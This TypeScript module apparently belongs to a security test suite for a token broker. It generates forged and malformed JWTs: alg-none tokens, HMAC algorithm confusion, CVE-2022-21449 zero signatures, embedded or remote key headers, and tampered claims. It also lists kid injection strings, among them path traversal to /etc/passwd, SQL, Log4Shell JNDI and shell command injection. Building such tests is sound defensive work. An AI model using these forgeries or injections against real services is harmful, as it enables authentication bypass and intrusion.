// Malicious access tokens for the security suite: every way a forged, mangled or misused JWT may arrive.
import {
  createHmac,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  KeyObject,
  randomBytes,
  sign,
  type webcrypto,
} from 'node:crypto';
import { CompactEncrypt, type JWK } from 'jose';

/** A JOSE header or payload: an object to serialise, or the exact text to put in the segment. */
export type JosePart = Readonly<Record<string, unknown>> | string;

/**
 * Signs `header` and `payload` as a compact JWS, honouring the header exactly as given (`crit`,
 * `b64`, `cty`, duplicate members in a string part). A string part is encoded byte for byte.
 */
export type Resign = (header: JosePart, payload: JosePart) => Promise<string>;

export interface AttackTokenOptions {
  /** A token the broker issued and would accept. */
  readonly validToken: string;
  /** The broker's EC P-256 public signing key, with its `kid`. */
  readonly publicJwk: JWK;
  readonly issuer: string;
  /** The audience the valid token was issued for (its first location). */
  readonly audience: string;
  /** The valid token's claims: the base every claim variant changes one thing of. */
  readonly claims: Readonly<Record<string, unknown>>;
  /** Where `jku` / `x5u` point: a local URL the suite watches for fetches. */
  readonly keyUrl?: string | undefined;
  /**
   * Signs with the broker's real key, so a claim, `typ`, `crit` or nesting variant is refused
   * for that reason and not for its signature. Without it those are signed by an attacker key.
   */
  readonly resign?: Resign | undefined;
  /** "Now" for the time variants; default the claims' `iat`. */
  readonly nowSec?: number | undefined;
  /** The verifier's clock tolerance; time variants lie an hour beyond it. Default 60. */
  readonly clockToleranceSec?: number | undefined;
}

export interface AttackToken {
  readonly name: string;
  readonly token: string;
}

/** Claims whose absence or wrong type must make the token invalid. */
export const REQUIRED_CLAIMS = [
  'iss',
  'sub',
  'aud',
  'exp',
  'iat',
  'jti',
  'client_id',
  'grant_id',
] as const;

const WRONG_TYPE: Record<(typeof REQUIRED_CLAIMS)[number], unknown> = {
  iss: 12345,
  sub: { id: 'agent' },
  aud: 42,
  exp: '9999999999',
  iat: '1700000000',
  jti: 7,
  client_id: ['agent'],
  grant_id: 99,
};

const KID_INJECTIONS: ReadonlyArray<[string, string]> = [
  ['path-traversal', '../../etc/passwd'],
  ['dev-null', '../../../../../../dev/null'],
  ['sql', "' OR 1=1 --"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal Log4Shell lookup is the attack.
  ['jndi', '${jndi:ldap://x}'],
  ['null-byte', 'key\u0000.pem'],
  ['command', '|id;`id`'],
  ['url', 'http://127.0.0.1:1/jwks.json'],
];

const b64u = (text: string | Uint8Array): string => Buffer.from(text).toString('base64url');
const partText = (part: JosePart): string =>
  typeof part === 'string' ? part : JSON.stringify(part);

/**
 * Returns a resign hook that signs ES256 over exactly `b64url(header).b64url(payload)` with
 * `privateKey`, whatever the header says: what a security suite needs to forge tokens that
 * only fail on the property under test.
 */
export function rawEs256Signer(privateKey: KeyObject | CryptoKey | JWK): Resign {
  const key =
    privateKey instanceof KeyObject
      ? privateKey
      : isCryptoKey(privateKey)
        ? KeyObject.from(privateKey)
        : createPrivateKey({ key: privateKey as webcrypto.JsonWebKey, format: 'jwk' });
  return async (header, payload) => {
    const input = `${b64u(partText(header))}.${b64u(partText(payload))}`;
    const signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
    return `${input}.${signature.toString('base64url')}`;
  };
}

function isCryptoKey(value: unknown): value is CryptoKey {
  return typeof CryptoKey !== 'undefined' && value instanceof CryptoKey;
}

function hs256(header: JosePart, payloadSegment: string, secret: string | Uint8Array): string {
  const input = `${b64u(partText(header))}.${payloadSegment}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/**
 * Builds the named malicious tokens. Every token must be refused by the broker's introspection
 * and evaluation, and none may make it fetch `keyUrl`.
 */
export async function buildAttackTokens(opts: AttackTokenOptions): Promise<AttackToken[]> {
  const parts = opts.validToken.split('.');
  if (parts.length !== 3) throw new TypeError('validToken must be a compact JWS');
  const [h, p, s] = parts as [string, string, string];
  const validHeader = JSON.parse(Buffer.from(h, 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
  const kid = String(opts.publicJwk.kid ?? validHeader.kid ?? '');
  const claims = { ...opts.claims };
  const now = opts.nowSec ?? (typeof claims.iat === 'number' ? claims.iat : 0);
  const beyond = (opts.clockToleranceSec ?? 60) + 3600;
  const keyUrl = opts.keyUrl ?? 'http://127.0.0.1:9/jwks.json';

  const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const attackerJwk = {
    ...(attacker.publicKey.export({ format: 'jwk' }) as JWK),
    kid: 'attacker-key',
  };
  const attackerSign = rawEs256Signer(attacker.privateKey);
  const resignOrForge: Resign = opts.resign ?? attackerSign;
  const header = (extra: Record<string, unknown> = {}) => ({
    alg: 'ES256',
    typ: 'at+jwt',
    kid,
    ...extra,
  });

  const out: AttackToken[] = [];
  const add = (name: string, token: string) => out.push({ name, token });

  // alg none: the classic; casing variants catch case-insensitive allowlists.
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    const noneHeader = b64u(JSON.stringify({ ...validHeader, alg }));
    add(`alg-none:${alg}:empty-signature`, `${noneHeader}.${p}.`);
    add(`alg-none:${alg}:with-signature`, `${noneHeader}.${p}.${s}`);
  }

  add('signature:stripped', `${h}.${p}.`);
  add('signature:two-segments', `${h}.${p}`);
  add('signature:truncated', `${h}.${p}.${s.slice(0, -4)}`);
  add('signature:half', `${h}.${p}.${s.slice(0, Math.floor(s.length / 2))}`);
  add('signature:other-token', `${h}.${p}.${b64u(randomBytes(64))}`);
  // CVE-2022-21449 ("psychic signatures"): r = s = 0 passes a verifier that skips the range check.
  add('es256:zero-signature', `${h}.${p}.${b64u(new Uint8Array(64))}`);
  add(
    'es256:zero-signature-der',
    `${h}.${p}.${b64u(Uint8Array.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]))}`,
  );

  // Algorithm confusion: the public key used as an HMAC secret.
  const publicKey = createPublicKey({ key: opts.publicJwk as webcrypto.JsonWebKey, format: 'jwk' });
  const pem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const hsHeader = { ...validHeader, alg: 'HS256' };
  add('hs256:public-key-pem', hs256(hsHeader, p, pem));
  add('hs256:public-key-pem-no-newline', hs256(hsHeader, p, pem.trimEnd()));
  add(
    'hs256:public-key-der',
    hs256(hsHeader, p, publicKey.export({ type: 'spki', format: 'der' })),
  );
  add('hs256:public-jwk-json', hs256(hsHeader, p, JSON.stringify(opts.publicJwk)));
  add(
    'hs256:public-x-coordinate',
    hs256(hsHeader, p, Buffer.from(String(opts.publicJwk.x ?? ''), 'base64url')),
  );
  add('hs256:public-x-b64url', hs256(hsHeader, p, String(opts.publicJwk.x ?? '')));
  for (const secret of ['', 'secret', 'password'])
    add(`hs256:secret:${secret || 'empty'}`, hs256(hsHeader, p, secret));

  // Keys the token tries to bring along.
  add('header:jwk-embedded', await attackerSign(header({ jwk: attackerJwk }), claims));
  add(
    'header:jwk-embedded-own-kid',
    await attackerSign(header({ kid: attackerJwk.kid, jwk: attackerJwk }), claims),
  );
  add('header:jku', await attackerSign(header({ kid: attackerJwk.kid, jku: keyUrl }), claims));
  add('header:x5u', await attackerSign(header({ kid: attackerJwk.kid, x5u: keyUrl }), claims));
  for (const [label, value] of KID_INJECTIONS) {
    add(`kid-injection:${label}`, await attackerSign(header({ kid: value }), claims));
  }
  // A key file path that resolves to empty content makes an empty HMAC secret.
  add(
    'kid-injection:dev-null-hs256',
    hs256({ alg: 'HS256', typ: 'at+jwt', kid: '../../../../../../dev/null' }, p, ''),
  );
  add('kid:unknown', await attackerSign(header({ kid: `unknown-${kid}` }), claims));
  add('kid:missing', await attackerSign({ alg: 'ES256', typ: 'at+jwt' }, claims));
  add('attacker-key:broker-kid', await attackerSign(header(), claims));

  // Header extensions a verifier must understand or refuse.
  add('header:crit-unknown', await resignOrForge(header({ crit: ['exp-x'], 'exp-x': 1 }), claims));
  add('header:crit-b64-false', await resignOrForge(header({ b64: false, crit: ['b64'] }), claims));
  add('header:cty-jwt-nested', await resignOrForge(header({ cty: 'JWT' }), opts.validToken));

  // Other serialisations of the valid token.
  add(
    'serialization:jws-json-flattened',
    JSON.stringify({ protected: h, payload: p, signature: s }),
  );
  add(
    'serialization:jws-json-general',
    JSON.stringify({ payload: p, signatures: [{ protected: h, signature: s }] }),
  );
  add(
    'serialization:jwe-compact',
    await new CompactEncrypt(Buffer.from(opts.validToken))
      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT', kid })
      .encrypt(randomBytes(32)),
  );
  add(
    'serialization:jwe-compact-ecdh-header',
    [
      b64u(JSON.stringify({ alg: 'ECDH-ES', enc: 'A128GCM', kid, epk: attackerJwk })),
      '',
      b64u(randomBytes(12)),
      p,
      b64u(randomBytes(16)),
    ].join('.'),
  );

  // Malformed segments.
  const std = (seg: string) => Buffer.from(seg, 'base64url').toString('base64');
  add('malformed:standard-base64', `${std(h)}.${std(p)}.${std(s)}`);
  add('malformed:padded', `${h}==.${p}==.${s}`);
  add('malformed:non-ascii-header', `${h.slice(0, 4)}é${h.slice(4)}.${p}.${s}`);
  add('malformed:non-ascii-payload', `${h}.${p}\u00e9\u{1F600}.${s}`);
  add('malformed:non-ascii-signature', `${h}.${p}.${s.slice(0, -2)}ü`);
  add('malformed:bad-length', `${h}.${p}A.${s}`);
  add('malformed:whitespace', `${h}.${p.slice(0, 10)} ${p.slice(10)}.${s}`);
  add('malformed:newline', `${h}.\n${p}.${s}`);
  add('malformed:header-not-json', `${b64u('not json')}.${p}.${s}`);
  add('malformed:header-array', `${b64u('["ES256"]')}.${p}.${s}`);
  add('malformed:header-null', `${b64u('null')}.${p}.${s}`);
  add('malformed:header-bom', `${b64u(`\ufeff${JSON.stringify(validHeader)}`)}.${p}.${s}`);
  add('malformed:payload-not-json', await resignOrForge(header(), 'not json'));
  add('malformed:payload-array', await resignOrForge(header(), JSON.stringify([claims])));
  add('malformed:payload-null', await resignOrForge(header(), 'null'));
  add('malformed:four-segments', `${h}.${p}.${s}.${s}`);
  add('malformed:one-segment', h);
  add('malformed:empty', '');
  add('malformed:dots-only', '..');
  add('malformed:empty-header', `.${p}.${s}`);
  add('malformed:empty-payload', `${h}..${s}`);

  // Duplicate members, ordered so the last (what JSON.parse keeps) is the bad one.
  const headerText = JSON.stringify(validHeader).slice(0, -1);
  add('duplicate-member:header-alg', `${b64u(`${headerText},"alg":"none"}`)}.${p}.${s}`);
  add('duplicate-member:header-typ', await resignOrForge(`${headerText},"typ":"JWT"}`, claims));
  const claimsText = JSON.stringify(claims).slice(0, -1);
  add(
    'duplicate-member:payload-iss',
    await resignOrForge(header(), `${claimsText},"iss":"https://attacker.invalid"}`),
  );
  add(
    'duplicate-member:payload-aud',
    await resignOrForge(header(), `${claimsText},"aud":"https://attacker.invalid"}`),
  );
  add(
    'duplicate-member:payload-exp',
    await resignOrForge(header(), `${claimsText},"exp":${now - beyond}}`),
  );

  // Size: a verifier must bound the work and memory a token costs.
  add('oversized:1mb', await attackerSign(header(), { ...claims, pad: 'A'.repeat(1024 * 1024) }));

  // Claims: each required one missing, then of the wrong type.
  for (const claim of REQUIRED_CLAIMS) {
    const { [claim]: _dropped, ...rest } = claims;
    add(`claims:missing:${claim}`, await resignOrForge(header(), rest));
  }
  for (const claim of REQUIRED_CLAIMS) {
    add(
      `claims:wrong-type:${claim}`,
      await resignOrForge(header(), { ...claims, [claim]: WRONG_TYPE[claim] }),
    );
  }
  add(
    'claims:wrong-type:authorization_details',
    await resignOrForge(header(), { ...claims, authorization_details: 'read' }),
  );
  add(
    'claims:expired',
    await resignOrForge(header(), { ...claims, iat: now - 2 * beyond, exp: now - beyond }),
  );
  add('claims:nbf-future', await resignOrForge(header(), { ...claims, nbf: now + beyond }));
  add(
    'claims:iat-future',
    await resignOrForge(header(), { ...claims, iat: now + beyond, exp: now + beyond + 300 }),
  );
  add(
    'claims:foreign-issuer',
    await resignOrForge(header(), { ...claims, iss: 'https://attacker.invalid' }),
  );
  add(
    'claims:issuer-trailing-slash',
    await resignOrForge(header(), { ...claims, iss: `${opts.issuer}/` }),
  );
  add(
    'claims:foreign-audience',
    await resignOrForge(header(), { ...claims, aud: 'https://attacker.invalid' }),
  );
  add(
    'claims:audience-lookalike',
    await resignOrForge(header(), { ...claims, aud: [`${opts.audience}.attacker.invalid`] }),
  );

  // Right key, wrong kind of token.
  add('typ:jwt', await resignOrForge(header({ typ: 'JWT' }), claims));
  // A client assertion (RFC 7523) the agent signed for the token endpoint, replayed as an access token.
  add(
    'typ:client-assertion',
    await resignOrForge(
      { alg: 'ES256', typ: 'JWT', kid },
      {
        iss: claims.client_id,
        sub: claims.client_id,
        aud: `${opts.issuer}/oauth/token`,
        jti: `assertion-${String(claims.jti)}`,
        iat: now,
        exp: now + 60,
      },
    ),
  );
  add('typ:missing', await resignOrForge({ alg: 'ES256', kid }, claims));
  add('typ:dpop', await resignOrForge(header({ typ: 'dpop+jwt' }), claims));

  return out;
}
